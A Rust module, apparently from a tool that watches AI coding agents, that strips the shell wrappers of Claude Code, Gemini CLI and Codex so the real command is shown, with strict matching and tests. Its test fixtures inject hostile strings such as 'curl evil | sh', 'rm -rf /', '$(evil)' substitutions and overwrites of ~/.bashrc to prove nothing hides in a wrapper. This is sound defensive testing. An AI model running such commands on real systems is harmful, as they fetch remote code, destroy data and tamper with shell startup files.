//! What the agent wraps around a command before it hands it to a shell, and how to take it off
//! again. One recogniser per shape, each as strict as the real strings allow: a line that is not
//! exactly such a wrapper is shown as it is, so that nothing can hide in what is left out.
#![forbid(unsafe_code)]

use super::shell::literal_word;
use crate::bytes::Bytes;

/// Takes the wrappers off an argv, and gives the script that a person would have typed; `None` where
/// it is no shell with a script, or has arguments for the script that would be lost. `snapshots`: where
/// Claude Code keeps what its shells read first, if it is Claude Code that calls. From anybody else, or
/// from anywhere else, its wrapper reads a file that could make `ls` another command.
pub fn unwrap(path: &[u8], argv: &[Bytes], snapshots: Option<&[u8]>) -> Option<Vec<u8>> {
    let script = shell_script(path, argv)?;
    let claude = snapshots.and_then(|snapshots| claude(script, snapshots));
    let inner = claude.or_else(|| gemini(script));
    Some(inner.unwrap_or_else(|| script.to_vec()))
}

/// The script of `bash -c SCRIPT` and its like, where there is nothing but the script.
fn shell_script<'a>(path: &[u8], argv: &'a [Bytes]) -> Option<&'a [u8]> {
    const SHELLS: [&[u8]; 6] = [b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh"];
    if !SHELLS.contains(&basename(path)) {
        return None;
    }
    let mut arguments = argv.iter().skip(1).map(|argument| argument.0.as_slice()).peekable();
    let mut is_script = false;
    while let Some(option) = arguments.next_if(|argument| argument.starts_with(b"-")) {
        match option {
            b"--norc" | b"--noprofile" | b"--login" => {}
            // Other letters change what the script does (`-n` runs nothing of it).
            [b'-', letters @ ..] if letters.iter().all(|letter| b"cleux".contains(letter)) => {
                is_script |= letters.contains(&b'c');
            }
            _ => return None,
        }
    }
    let script = arguments.next().filter(|script| is_script && !script.trim_ascii().is_empty());
    script.filter(|_| arguments.next().is_none())
}

/// The last component of a path.
pub fn basename(path: &[u8]) -> &[u8] {
    path.rsplit(|byte| *byte == b'/').next().unwrap_or(path)
}

/// Claude Code: `source SNAPSHOT ... && eval 'COMMAND' < /dev/null && pwd -P >| FILE`.
fn claude(script: &[u8], snapshots: &[u8]) -> Option<Vec<u8>> {
    const ZSH: &str =
        "NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL NO_BRACE_CCL NO_MAGIC_EQUAL_SUBST NO_EQUALS";
    let preparations = [
        "shopt -u extglob 2>/dev/null || true".to_owned(),
        "\\builtin shopt -u extglob 2>/dev/null || true".to_owned(),
        "setopt NO_EXTENDED_GLOB 2>/dev/null || true".to_owned(),
        format!("\\builtin setopt {ZSH} 2>/dev/null || true"),
        format!(
            "{{ \\builtin shopt -u extglob || \\builtin setopt {ZSH}; }} >/dev/null 2>&1 || true"
        ),
    ];
    let mut rest = script;
    loop {
        let step = preparations
            .iter()
            .find_map(|step| rest.strip_prefix(step.as_bytes()))
            .or_else(|| claude_snapshot(rest, snapshots))
            .or_else(|| claude_unalias(rest))
            .and_then(|rest| rest.strip_prefix(b" && "));
        let Some(after) = step else { break };
        rest = after;
    }
    let (command, rest) = literal_word(rest.strip_prefix(b"eval ")?)?;
    let rest = rest.strip_prefix(b" < /dev/null").unwrap_or(rest);
    let (file, rest) = literal_word(rest.strip_prefix(b" && pwd -P >| ")?)?;
    let name = basename(&file);
    let ours = name.starts_with(b"claude-") && name.ends_with(b"-cwd");
    // What is written anywhere else is for a person to see.
    (rest.is_empty() && ours).then_some(command)
}

fn claude_snapshot<'a>(rest: &'a [u8], snapshots: &[u8]) -> Option<&'a [u8]> {
    let (file, rest) = literal_word(rest.strip_prefix(b"source ")?)?;
    let name = file.strip_prefix(snapshots)?.strip_prefix(b"/")?;
    let ours = !name.contains(&b'/') && !name.starts_with(b".");
    rest.strip_prefix(b" 2>/dev/null || true").filter(|_| ours)
}

fn claude_unalias(rest: &[u8]) -> Option<&[u8]> {
    let (one, rest) = literal_word(rest.strip_prefix(b"{ \\builtin unalias -- ")?)?;
    let (two, rest) = literal_word(rest.strip_prefix(b"; \\builtin unset -f -- ")?)?;
    rest.strip_prefix(b"; } >/dev/null 2>&1 || true").filter(|_| one == two)
}

/// Gemini CLI: a subshell with a trap that lists background jobs.
fn gemini(script: &[u8]) -> Option<Vec<u8>> {
    let (first, rest) = split_line(script)?;
    let (options, assigned) = std::str::from_utf8(first.strip_prefix(b"shopt -u promptvars ")?)
        .ok()?
        .split_once("; _bgpids_file=")?;
    let (file, after) = literal_word(assigned.as_bytes())?;
    if !options.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b' ')
        || !after.is_empty()
        || !basename(&file).starts_with(b"bgpids")
    {
        return None;
    }
    let (trap, rest) = split_line(rest.strip_prefix(b"(\n")?)?;
    let list = trap.strip_prefix(b"  trap 'jobs -p > ")?.strip_suffix(b"' EXIT")?;
    // By name, or written out as it was assigned.
    if list != b"\"$_bgpids_file\"" && (list != assigned.as_bytes() || list.contains(&b'\'')) {
        return None;
    }
    let command = rest.strip_suffix(b"\n)\n__code=$?\nexit $__code")?;
    Some(command.to_vec())
}

fn split_line(text: &[u8]) -> Option<(&[u8], &[u8])> {
    let at = text.iter().position(|byte| *byte == b'\n')?;
    Some((&text[..at], &text[at + 1..]))
}

/// Codex executes itself and then, in the same process, the command: its path and its argv, which
/// stand at the end of `codex --codex-run-as-process-setup FD PID pipe FDS DIRECTORY PATH ARGV...`.
/// Only a step that says all of this is none to be shown.
pub fn codex_step<'a>(path: &[u8], argv: &'a [Bytes]) -> Option<(&'a Bytes, &'a [Bytes])> {
    let [_, mark, socket, pid, kind, kept, _directory, program, command @ ..] = argv else {
        return None;
    };
    let is_number = |word: &Bytes| !word.0.is_empty() && word.0.iter().all(u8::is_ascii_digit);
    let exact = path == b"/proc/self/exe"
        && mark.0 == b"--codex-run-as-process-setup"
        && is_number(socket)
        && is_number(pid)
        && matches!(kind.0.as_slice(), b"pipe" | b"pty")
        && kept.0.iter().all(|byte| byte.is_ascii_digit() || *byte == b',');
    (exact && !command.is_empty()).then_some((program, command))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn shown(argv: &[&str]) -> Option<String> {
        let argv = bytes(argv);
        Some(String::from_utf8(unwrap(&argv[0].0, &argv, Some(SNAPSHOTS))?).unwrap())
    }

    fn bytes(argv: &[&str]) -> Vec<Bytes> {
        argv.iter().map(|argument| Bytes::from(*argument)).collect()
    }

    const SNAPSHOTS: &[u8] = b"/home/u/.claude/shell-snapshots";

    /// As Claude Code 2.1.330 executes it.
    const CLAUDE: &str = "source /home/u/.claude/shell-snapshots/snapshot-bash-1795392492694-0bd9su.sh \
        2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true \
        && { \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true \
        && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true \
        && eval 'ls -la && echo hi > made.txt' < /dev/null && pwd -P >| /tmp/claude-cd35-cwd";

    const CLAUDE_HEREDOC: &str = "source /home/u/.claude/shell-snapshots/snapshot-bash-1-a.sh \
        2>/dev/null || true && eval 'cat <<'\"'\"'EOF'\"'\"' > x.txt\nit'\"'\"'s\nEOF\nwc -l x.txt' \
        && pwd -P >| /tmp/claude-57a9-cwd";

    const GEMINI: &str = "shopt -u promptvars nullglob extglob nocaseglob dotglob; \
        _bgpids_file=/tmp/gemini-shell-Xa/bgpids.tmp\n(\n  trap 'jobs -p > /tmp/gemini-shell-Xa/bgpids.tmp' EXIT\n\
        npm test\n)\n__code=$?\nexit $__code";

    /// As Gemini CLI 0.61.0 executes it.
    const GEMINI_BY_NAME: &str = "shopt -u promptvars nullglob extglob nocaseglob dotglob; \
        _bgpids_file=/tmp/gemini-shell-Xa/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n\
        npm test\n)\n__code=$?\nexit $__code";

    #[test]
    fn each_agents_wrapper_comes_off() {
        let cases: [(&[&str], Option<&str>); 13] = [
            (&["/bin/bash", "-c", CLAUDE], Some("ls -la && echo hi > made.txt")),
            (
                &["/bin/bash", "-c", CLAUDE_HEREDOC],
                Some("cat <<'EOF' > x.txt\nit's\nEOF\nwc -l x.txt"),
            ),
            (&["/usr/bin/bash", "-c", GEMINI], Some("npm test")),
            (&["/usr/bin/bash", "-c", GEMINI_BY_NAME], Some("npm test")),
            (&["bash", "-c", "npm test"], Some("npm test")),
            (&["/bin/bash", "--norc", "--noprofile", "-c", "ls"], Some("ls")),
            (&["bash", "-lc", "ls"], Some("ls")),
            (&["/bin/sh", "-c", "cc -c a.c"], Some("cc -c a.c")),
            (&["bash", "-c", "echo \"$1\"", "x", "y"], None),
            (&["bash", "-nc", "ls"], None),
            (&["bash", "script.sh"], None),
            (&["bash", "-c", " "], None),
            (&["python3", "-c", "print(1)"], None),
        ];
        for (argv, want) in cases {
            assert_eq!(shown(argv).as_deref(), want, "{argv:?}");
        }
    }

    #[test]
    fn nothing_hides_in_a_wrapper() {
        let evil = [
            CLAUDE.replacen("source ", "curl evil | sh; source ", 1),
            CLAUDE.replace(" && eval ", " && rm -rf / && eval "),
            CLAUDE.replace("source /home", "source $(evil)/home"),
            CLAUDE.replace("shell-snapshots", "elsewhere"),
            CLAUDE.replace("source /home/u/.claude", "source ."),
            CLAUDE.replace("source /home/u/.claude", "source /home/u/p"),
            CLAUDE.replace("shell-snapshots/", "shell-snapshots/../../p/"),
            CLAUDE.replace("shell-snapshots/", "shell-snapshots/p/"),
            CLAUDE.replace("'which'; }", "'which'; evil; }"),
            CLAUDE.replace("-- 'which'", "-- $(evil)"),
            CLAUDE.replace(" < /dev/null", " < /dev/null; evil"),
            format!("{CLAUDE}; evil"),
            format!("{CLAUDE}$(evil)"),
            CLAUDE.replace("eval 'ls", "eval \"$x\"'ls"),
            GEMINI.replace("tmp\n(\n", "tmp; evil\n(\n"),
            GEMINI.replace("tmp\n(\n", "tmp $(evil)\n(\n"),
            GEMINI.replace("tmp\n(\n", "tmp . bgpids\n(\n"),
            GEMINI.replace("dotglob; ", "dotglob; . evil; "),
            GEMINI_BY_NAME.replace("file=/tmp/gemini-shell-Xa/bgpids.tmp", "file=/home/u/.bashrc"),
            GEMINI.replace("' EXIT", "; evil' EXIT"),
            GEMINI.replace("> /tmp/gemini-shell-Xa/bgpids.tmp'", "> /home/u/.bashrc'"),
            GEMINI.replace("/tmp/gemini-shell-Xa/bgpids.tmp", "/home/u/.bashrc"),
            CLAUDE.replace("/tmp/claude-cd35-cwd", "/home/u/.bashrc"),
            GEMINI.replace("exit $__code", "evil; exit $__code"),
        ];
        for script in &evil {
            assert_eq!(shown(&["bash", "-c", script]).as_ref(), Some(script));
        }
        // From another than Claude Code.
        let argv = bytes(&["bash", "-c", CLAUDE]);
        assert_eq!(unwrap(b"/bin/bash", &argv, None).as_deref(), Some(CLAUDE.as_bytes()));
    }

    #[test]
    fn a_step_of_codex_is_one_only_word_for_word() {
        let step = "x --codex-run-as-process-setup 7 123 pipe 3,4 /p /bin/bash bash -c ls";
        let words: Vec<&str> = step.split(' ').collect();
        let argv = bytes(&words);
        let leads_to = codex_step(b"/proc/self/exe", &argv);
        assert_eq!(leads_to, Some((&argv[7], &argv[8..])));
        assert_eq!(codex_step(b"/tmp/codex", &argv), None);
        for (at, word) in [(1, "-c"), (2, "x"), (3, ""), (4, "exec"), (5, "/tmp/x")] {
            let mut words = words.clone();
            words[at] = word;
            assert_eq!(codex_step(b"/proc/self/exe", &bytes(&words)), None, "{word}");
        }
        assert_eq!(codex_step(b"/proc/self/exe", &argv[..8]), None);
    }

    proptest! {
        #[test]
        fn whatever_is_evaled_is_what_is_shown(command in "[ -~\n]{1,40}") {
            let quoted = format!("'{}'", command.replace('\'', "'\"'\"'"));
            let script = CLAUDE.replace("'ls -la && echo hi > made.txt'", &quoted);
            prop_assert_eq!(shown(&["bash", "-c", &script]), Some(command));
        }

        #[test]
        fn any_argv_is_safe(argv in proptest::collection::vec(any::<Vec<u8>>(), 0..5)) {
            let argv: Vec<_> = argv.into_iter().map(Bytes).collect();
            let _ = unwrap(b"/bin/sh", &argv, Some(SNAPSHOTS));
        }
    }
}
